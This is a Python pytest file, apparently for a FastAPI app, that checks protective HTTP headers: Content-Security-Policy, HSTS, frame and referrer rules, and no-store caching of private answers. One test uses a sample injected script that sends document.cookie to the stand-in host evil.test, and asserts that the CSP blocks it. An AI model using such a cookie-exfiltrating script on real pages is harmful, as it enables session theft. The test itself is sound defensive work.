"""10.5 Headers that protect."""

import base64
import hashlib
import re
from html.parser import HTMLParser

import pytest
from fastapi import Depends, Response

from apps import crashing_app, log_in, new_app, started

HTTPS = {"base_url": "https://testserver"}


def policy_of(answer):
    """The Content-Security-Policy of an answer: directive -> sources."""
    text = answer.headers.get("content-security-policy", "")
    parts = [part.split() for part in text.split(";") if part.strip()]
    return {name.lower(): sources for name, *sources in parts}


class Page(HTMLParser):
    """What a page loads and runs."""

    def __init__(self, text):
        super().__init__()
        self.inline = {"script": [], "style": []}
        """What stands in the page itself, as (nonce, text)."""
        self.loaded = {"script": [], "style": []}
        self._reading = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script" and "src" in attributes:
            self.loaded[tag].append(attributes["src"])
        elif tag in self.inline:
            self._reading = tag
            self.inline[tag].append((attributes.get("nonce"), ""))
        elif tag == "link" and attributes.get("rel") == "stylesheet":
            self.loaded["style"].append(attributes["href"])

    def handle_data(self, data):
        if self._reading:
            nonce, text = self.inline[self._reading][-1]
            self.inline[self._reading][-1] = (nonce, text + data)

    def handle_endtag(self, tag):
        if tag == self._reading:
            self._reading = ""


def sources_of(policy, directive):
    """From where a policy lets something come."""
    return policy.get(directive, policy.get("default-src", ["*"]))


def takes(sources, nonce, text):
    """Whether a browser takes a script or a style that stands in the page."""
    digests = [
        f"'{name}-{base64.b64encode(hashlib.new(name, text.encode()).digest()).decode()}'"
        for name in ("sha256", "sha384", "sha512")
    ]
    named = any(source in sources for source in digests)
    return named or bool(nonce and f"'nonce-{nonce}'" in sources) or is_loose(sources)


def is_loose(sources):
    """Whether a list of sources lets anything inline in: hashes and nonces switch that off."""
    exact = any(re.match(r"'(sha\d+|nonce)-", source) for source in sources)
    return "'unsafe-inline'" in sources and not exact


def test_every_answer_has_them():
    """Every answer, also a refusal and an error 500, says `X-Content-Type-Options: nosniff`,
    `X-Frame-Options: DENY`, `Referrer-Policy: no-referrer`, and with `Content-Security-Policy` that
    no page may frame it (`frame-ancestors 'none'`) and, but for the pages of the documentation,
    that nothing in it may be loaded or run (`default-src 'none'`)."""
    app = crashing_app(allowed_hosts=("testserver",), docs_password="a quiet river")  # noqa: S106
    with started(app, raising=False) as client:
        locked = client.get("/docs")
        answers = [
            client.get("/api/v1/products"),
            client.get("/api/v1/products/7"),
            client.get("/api/v1/products/x"),
            client.get("/api/v1/orders"),
            client.get("/nowhere"),
            client.get("/crash"),
            client.get("/health", headers={"Host": "evil.test"}),
            client.get("/api/openapi.json", headers={"Api-Version": "2"}),
        ]
    statuses = [answer.status_code for answer in answers]
    assert statuses == [200, 404, 422, 401, 404, 500, 400, 401]
    assert locked.status_code == 401
    for answer in [*answers, locked]:
        assert answer.headers.get("x-content-type-options") == "nosniff"
        assert answer.headers.get("x-frame-options") == "DENY"
        assert answer.headers.get("referrer-policy") == "no-referrer"
        assert policy_of(answer).get("frame-ancestors") == ["'none'"]
    for answer in answers:
        assert policy_of(answer).get("default-src") == ["'none'"]


def test_https_is_asked_for_where_there_is_https():
    """`Strict-Transport-Security` is sent over TLS, for a year at least, and never over plain
    HTTP. A header X-Forwarded-Proto of anybody does not make a request secure: the server decides
    whose word counts."""
    app = new_app()
    with started(app, **HTTPS) as client:
        header = client.get("/health").headers["strict-transport-security"]
    assert int(re.search(r"max-age=(\d+)", header)[1]) >= 31_536_000
    with started(app) as client:
        answer = client.get("/health", headers={"X-Forwarded-Proto": "https"})
    assert "strict-transport-security" not in answer.headers


@pytest.mark.parametrize(
    "path", ["/docs", "/redoc", "/reference", "/api/v2/docs", "/api/v2/redoc", "/api/v2/reference"]
)
def test_the_documentation_still_works(client, path):
    """/docs, /redoc and /reference, of version 2 as well, have a policy under which they work:
    scripts, styles and data of this host, the scripts and styles in the page itself, the images
    that they draw, the worker of ReDoc."""
    answer = client.get(path)
    policy, page = policy_of(answer), Page(answer.text)
    for kind in ("script", "style"):
        sources = sources_of(policy, f"{kind}-src")
        for nonce, text in page.inline[kind]:
            assert takes(sources, nonce, text), f"A {kind} in the page itself is not taken."
        for address in page.loaded[kind]:
            assert not address.startswith(("http:", "https:", "//"))
            assert "'self'" in sources, f"{address} would not be loaded."
    if not path.endswith("/reference"):
        assert is_loose(sources_of(policy, "style-src")), (
            "The page writes styles while it runs. That takes 'unsafe-inline', without a hash or a "
            "nonce beside it, which switches it off."
        )
        assert "data:" in sources_of(policy, "img-src")
        assert "'self'" in sources_of(policy, "connect-src")
    if path.endswith("/redoc"):
        assert "blob:" in sources_of(policy, "worker-src")


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_a_smuggled_script_does_not_run(client, path):
    """The scripts of a page are named by a hash or a nonce: one that somebody smuggles into the
    page does not run, nor one from another host, nor may another page frame this one."""
    policy = policy_of(client.get(path))
    sources = sources_of(policy, "script-src")
    assert not takes(sources, None, "fetch('https://evil.test/' + document.cookie)")
    assert not {"*", "http:", "https:", "data:", "'unsafe-eval'"} & set(sources)
    assert policy.get("frame-ancestors") == ["'none'"]


def test_private_answers_stay_out_of_caches(client, database):
    """An answer that was made for somebody who has logged in says `Cache-Control: no-store`, when
    the operation says nothing of caches. An answer that is the same for all stays as it is."""
    ada = log_in(client, database)
    for path in ("/api/v1/users/me", "/api/v1/notes"):
        assert "no-store" in client.get(path, headers=ada).headers.get("cache-control", "")
    assert "no-store" not in client.get("/api/v1/products").headers.get("cache-control", "")


def test_caches_of_one_person_may_keep_them(database):
    """Where an operation says itself how long a private answer is fresh, `private` is added: the
    browser may keep it, a cache that many share may not. An operation that says `public`, or
    `private` itself, has the last word."""
    from app.auth.dependencies import identify

    def read(response: Response, said: str) -> str:
        response.headers["Cache-Control"] = said
        return "yours"

    app = new_app()
    app.add_api_route("/mine", read, dependencies=[Depends(identify)])
    with started(app) as client:
        ada = log_in(client, database)
        for said, answered in (
            ("max-age=60", {"private", "max-age=60"}),
            ("no-cache", {"private", "no-cache"}),
            ("public, max-age=60", {"public", "max-age=60"}),
            ("private, max-age=60", {"private", "max-age=60"}),
        ):
            answer = client.get("/mine", params={"said": said}, headers=ada)
            received = {each.strip() for each in answer.headers["cache-control"].split(",")}
            assert received == answered


def test_what_an_operation_says_counts_more():
    """A header that an operation sets itself is left as it is, and sent once."""

    def read(response: Response) -> str:
        response.headers["Referrer-Policy"] = "same-origin"
        response.headers["Content-Security-Policy"] = "default-src 'self'"
        return "a page"

    app = new_app()
    app.add_api_route("/page", read)
    with started(app) as client:
        headers = client.get("/page").headers
    assert headers.get_list("referrer-policy") == ["same-origin"]
    assert headers.get_list("content-security-policy") == ["default-src 'self'"]
    assert headers.get_list("x-content-type-options") == ["nosniff"]
